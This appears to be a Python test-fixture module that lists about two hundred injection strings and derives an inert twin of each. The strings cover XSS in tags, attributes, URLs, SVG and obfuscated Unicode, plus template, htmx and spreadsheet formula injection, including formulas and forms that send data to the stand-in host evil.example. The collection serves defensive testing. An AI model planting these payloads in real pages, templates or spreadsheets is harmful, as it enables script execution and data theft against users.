"""Two hundred texts that would like to be markup, script, an address or a formula, and a harmless twin of each.

Where one of them ran, it would set `window.__x`, open a dialog, or ask another host.
"""

from __future__ import annotations

import string
from unicodedata import normalize

RUN = "__x=1"
ELSEWHERE = "//evil.example/x"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"<script\n>{RUN}</script\n>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>alert`1`;{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={ELSEWHERE}.swf>",
    "<base href=//evil.example/>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{ELSEWHERE}.css'</style>",
    f"<form action={ELSEWHERE}><input name=csrfmiddlewaretoken><button>Save</button></form>",
    f"<button form=decide formaction={ELSEWHERE}>Apply</button>",
    f"<dialog open><a href={ELSEWHERE}>Sign in again</a></dialog>",
    "<plaintext>",
    "<xmp><h1>Overview</h1>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<!--<img src="--><img src=x onerror={RUN}>">',
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php echo '<script>{RUN}</script>' ?>",
    f"<image src=x onerror={RUN}>",
    f"<portal src={ELSEWHERE}></portal>",
]
CLOSING = ["title", "textarea", "select", "style", "script", "template", "td", "button", "p", "head"]
ENDS = [f"</{tag}><img src=x onerror={RUN}>" for tag in CLOSING]
EVENTS = [
    f"<{tag} {more}{event}={RUN}>"
    for tag, more, event in (
        ("img", "src=x ", "onerror"),
        ("IMG", "SRC=x ", "ONERROR"),
        ("body", "", "onload"),
        ("input", "autofocus ", "onfocus"),
        ("textarea", "autofocus ", "onfocus"),
        ("select", "autofocus ", "onfocus"),
        ("details", "open ", "ontoggle"),
        ("video", "src=x ", "onerror"),
        ("audio", "src=x ", "onerror"),
        ("source", "src=x ", "onerror"),
        ("marquee", "", "onstart"),
        ("a", "tabindex=1 ", "onfocus"),
        ("div", "", "onpointerenter"),
        ("form", "", "onformdata"),
        ("x", "contenteditable ", "onbeforeinput"),
        ("p", "style=animation:x ", "onanimationstart"),
        ("iframe", "", "onload"),
        ("object", "data=x ", "onerror"),
        ("dialog", "open ", "onclose"),
        ("progress", "style=transition:1s ", "ontransitionend"),
    )
]
ATTRIBUTES = [
    f"{quote}{space}{event}={RUN}{space}autofocus{space}x={quote}"
    for quote in ('"', "'", "`", "")
    for space, event in ((" ", "onfocus"), (" ", "onmouseover"), ("/", "onclick"), ("\n", "onerror"))
] + [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f'" style="background:url({ELSEWHERE})',
    '" class="hidden" hidden id="content',
    '" type="password" name="csrfmiddlewaretoken',
]
URLS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3g9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:{ELSEWHERE}",
    ELSEWHERE,
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example/x",
    "https://evil.example@127.0.0.1/",
    f"[open](javascript:{RUN})",
    f"![seen](https:{ELSEWHERE}.png)",
    f"<https:{ELSEWHERE}>",
    f"<a href=javascript:{RUN}>open</a>",
    f'<a href=" &#14; javascript:{RUN}">open</a>',
    f"<a href={ELSEWHERE} target=_blank>mem_a1b2c3</a>",
    "%3Cscript%3E__x=1%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=__x=1%3E",
]
SVG = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#95;&#95;x=1</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><use href=data:image/svg+xml,x#{RUN}></svg>",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script>",
    f"</text></svg><img src=x onerror={RUN}>",
]
TEMPLATES = [
    "{{ request.user.password }}",
    "{% debug %}{% load static %}",
    "{% include 'base.html' %}",
    "{# note #}{{ 7|add:7 }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}} <%= {RUN} %>",
    "%(content)s %s %d {0} {content} {content!r}",
]
ENTITIES = [
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&quot; onfocus={RUN} autofocus x=&quot;",
    f"&NewLine;&Tab;&lpar;&rpar;{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
]
LETTERS = [
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\uff1cimg src=x onerror={RUN}\uff1e\uff02",
    f"\u2039script\u203a{RUN}\u2039/script\u203a",
    f"\ufe64script\ufe65{RUN}",
    f"<scr\u0130pt>{RUN}</scr\u0130pt>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<img src=x on\u200berror={RUN}>",
    f"<\u00adscript>{RUN}</\u00adscript>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"<script\u3000>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<e\u0301script>{RUN}",
]
DIRECTIONS = [
    f"\u202e>tpircs/<{RUN}>tpircs<\u202c",
    f"\u2066<b>{RUN}</b>\u2069",
    f"\u2067'><img src=x onerror={RUN}>",
    "\u202dApprove\u202e <b>lla",
    f"\u200f<a href=javascript:{RUN}>\u200e",
    f"\u061c</p><script>{RUN}</script>",
]
CELLS = [
    f'=HYPERLINK("https:{ELSEWHERE}","open")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    f"+WEBSERVICE('https:{ELSEWHERE}')",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1\uff0d1",
    '","=1+1","',
    "';=1+1;'",
    f"=IMPORTXML(CONCAT('https:{ELSEWHERE}?',A1),'//a')",
]
SCRIPTS = [
    f'"}}}};{RUN};//',
    f"'}}}};{RUN};//",
    f"\\'-{RUN}-\\'",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f'{{"__proto__": {{"x": "{RUN}"}}}}',
    f"]]>{RUN}<![CDATA[",
    f"*/{RUN}/*",
    f"\u2028{RUN}//",
    "constructor",
]
HTMX = [
    f"<p hx-get={ELSEWHERE} hx-trigger=load>",
    "<p hx-post=/logout hx-trigger=load>",
    "<p data-hx-delete=/memories hx-trigger=load>",
    f"<p hx-on::load={RUN}>",
    f'<p hx-on:click="{RUN}">',
    f'<p hx-vals="js:{{x:{RUN}}}" hx-get=/ hx-trigger=load>',
    f"<p hx-headers=js:{RUN}>",
    "<main hx-swap-oob=true id=content>gone</main>",
    "<p hx-ext=x ws-connect=//evil.example/x>",
    f'" hx-get="{ELSEWHERE}" hx-trigger="load',
    "' hx-target='body' hx-boost='true",
    "<p data-focus data-announce='Applied'>",
    f"<button data-copy='{RUN}' data-retry>Copy</button>",
    "<i data-refused data-focus></i>",
]
MARKS = [
    f"<mark>{RUN}</mark>",
    f"</mark><img src=x onerror={RUN}><mark>",
    f"<mark onmouseover={RUN}>x</mark>",
    f"<ins>{RUN}</ins><del>x</del>",
    f"&lt;mark&gt;<b>{RUN}</b>",
    f"<<mark>script>{RUN}<</mark>/script>",
]

KINDS: dict[str, list[str]] = {
    "tags": TAGS,
    "ends of elements": ENDS,
    "event handlers": EVENTS,
    "attributes": ATTRIBUTES,
    "addresses": URLS,
    "svg and math": SVG,
    "templates": TEMPLATES,
    "entities": ENTITIES,
    "letters": LETTERS,
    "directions": DIRECTIONS,
    "cells": CELLS,
    "scripts": SCRIPTS,
    "htmx": HTMX,
    "highlights": MARKS,
}
ALL = [text for texts in KINDS.values() for text in texts]

# What means something to a parser of markup, templates, addresses or cells; each becomes a letter of the same width.
ACTIVE = "<>&\"'`{}$%=:;()[]!#@\\|^~*?,+-"
WIDE = "\uff1c\uff1e\uff02\uff1d\uff0b\uff0d\u2039\u203a\ufe64\ufe65"
# A letter of its own for each, so that texts which are not the same have twins that are not the same either; wide signs
# have the wide form of their plain sign's letter.
_PLAIN = dict(zip(ACTIVE, string.ascii_lowercase + "þøł", strict=True))
_OWN = {"\u2039": "\u014b", "\u203a": "\u0153"}
_TWIN = str.maketrans(
    _PLAIN | {one: _OWN.get(one) or chr(ord(_PLAIN[normalize("NFKC", one)]) + 0xFEE0) for one in WIDE}
)


def harmless(text: str) -> str:
    """A text of the same kind that nobody could take for more: as long, with the same spaces and hidden letters."""
    return text.translate(_TWIN)
